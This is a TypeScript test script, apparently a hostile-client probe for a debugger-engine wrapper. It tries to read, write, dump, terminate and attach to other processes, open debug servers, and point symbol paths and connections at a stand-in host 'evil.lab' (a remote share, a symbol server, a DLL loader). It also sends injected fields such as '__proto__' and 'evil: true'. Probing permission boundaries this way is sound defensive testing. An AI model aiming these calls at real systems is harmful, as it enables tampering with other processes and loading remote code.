/** Has the right to attach to one program, and goes for all others through raw frames. `guess.ts NAME` */
import { deed } from "./deed.ts";
import { big, RawClient } from "./raw.ts";

const [name = ""] = Deno.args;
const raw = new RawClient();
await raw.call("open", {});
const own = (JSON.parse(await raw.call("processes", big(0)) as string) as { processId: number }[])[0]?.processId;
const pids = [own === 4 ? 8 : 4, ...Array.from({ length: 10 }, (_, index) => 32 + 4 * index)].filter((pid) =>
  pid !== own
);

/** What came of a call for each of the process ids, in one error. */
async function all(call: (processId: number) => Promise<unknown>): Promise<never> {
  const answers = await Promise.allSettled(pids.map(call));
  const reasons = answers.map((answer) => answer.status === "fulfilled" ? "worked" : `${answer.reason}`);
  throw new Error([...new Set(reasons.map((reason) => reason.replaceAll(/\d+/g, "N")))].join(" and "));
}

const some = (call: string, ...values: readonly unknown[]) => (): Promise<never> =>
  all((processId) => raw.call(call, { processId }, ...values));
const each = (call: string) => (): Promise<never> => all((processId) => raw.call(call, processId));
const attaches = (more: Record<string, unknown>) => (): Promise<never> =>
  all((processId) => raw.call("attach", { server: big(0), processId, ...more }));

await deed("processes", async () => {
  const all = JSON.parse(await raw.call("processes", big(0)) as string) as { name: string }[];
  const others = all.filter((process) => process.name !== name);
  if (others.length > 0) return others.map((process) => process.name);
  throw new Error(`only ${all.length}`);
});
await deed("read of others", some("read", big(0x10000), 16));
await deed("write of others", some("write", big(0x10000), { $bytes: "AAAA" }));
await deed("modules of others", some("modules"));
await deed("threads of others", some("threads"));
await deed("registers of others", some("registers"));
await deed("execute on others", some("execute", ".kill"));
await deed("dump of others", some("writeDump", "Z:\\tmp\\latch-hostile.dmp", "mini", null));
await deed("terminate others", each("terminate"));
await deed("detach others", each("detach"));
await deed("abandon others", each("abandon"));
await deed("leave others", () => raw.call("leave", pids.map((processId) => ({ processId, how: "terminate" }))));
await deed("attach to others", attaches({}));
await deed("attach to others, noninvasive", attaches({ noninvasive: "noSuspend" }));
await deed("attach to others, existing", attaches({ existing: true }));
await deed("server handles", async () => {
  const handles = [1, 2, 3, 0x1234, -1];
  const answers = await Promise.allSettled(handles.map((handle) => raw.call("processes", big(handle))));
  throw new Error(
    [...new Set(answers.map((answer) => answer.status === "fulfilled" ? "worked" : `${answer.reason}`))].join(" and "),
  );
});
await deed("end a server", () => raw.call("endServer", big(1)));
await deed("disconnect here", () => raw.call("disconnectServer", big(0)));
await deed("end here", () => raw.call("endServer", big(0)));
await deed("serve", () => raw.call("startServer", "tcp:port=5005"));
await deed("serve for a time", () => raw.call("serve", 1));
await deed("stop serving", () => raw.call("stopServer", "tcp:port=5005"));
await deed("open a dump", () => raw.call("openDump", "C:\\a.dmp", null));
await deed("connect", () => raw.call("connectServer", "tcp:server=127.0.0.1,port=1"));
await deed("connect by a pipe", () => raw.call("connectServer", "npipe:server=127.0.0.1,pipe=x"));
await deed("connect and more", () => raw.call("connectServer", "tcp:server=127.0.0.1,port=1,clicon=evil.lab"));
await deed("engine folder", () => raw.call("open", { engine: "Z:\\tmp" }));
await deed("symbol share", () => raw.call("open", { symbolPath: "\\\\evil.lab\\share" }));
await deed("symbol server", () => raw.call("open", { symbolPath: "srv*http://evil.lab/" }));
await deed("symbol library", () => raw.call("open", { symbolPath: "symsrv*evil.dll*http://evil.lab/" }));
await deed("symbol cache", () => raw.call("open", { symbolPath: "cache*C:\\windows" }));
await deed("strange call", () => raw.call("constructor"));
await deed("inherited call", () => raw.call("__proto__"));
await deed("wrong values", () => raw.call("attach", null));
await deed("no values", () => raw.call("read"));
await deed("strange entry", () => raw.call("attach", { server: big(0), processId: 4, evil: true }));
console.log("end");
Deno.exit(0);
